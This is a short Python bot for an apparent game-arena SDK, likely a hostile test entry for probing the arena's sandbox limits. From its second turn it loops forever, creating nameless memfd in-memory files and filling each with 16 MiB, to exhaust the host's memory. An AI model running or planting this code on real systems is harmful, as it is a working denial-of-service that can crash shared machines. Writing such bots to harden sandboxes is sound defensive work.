"""Takes all the memory there is when it should make its second move, in files that have no name."""

import os

from arena_sdk import Bot, Turn, run


class Stashes(Bot):
    def choose(self, turn: Turn) -> object:
        while turn.number > 0:
            stash = os.memfd_create("stash")
            for _ in range(16):
                os.write(stash, bytes(1024 * 1024))
        return turn.legal[0]


run(Stashes())
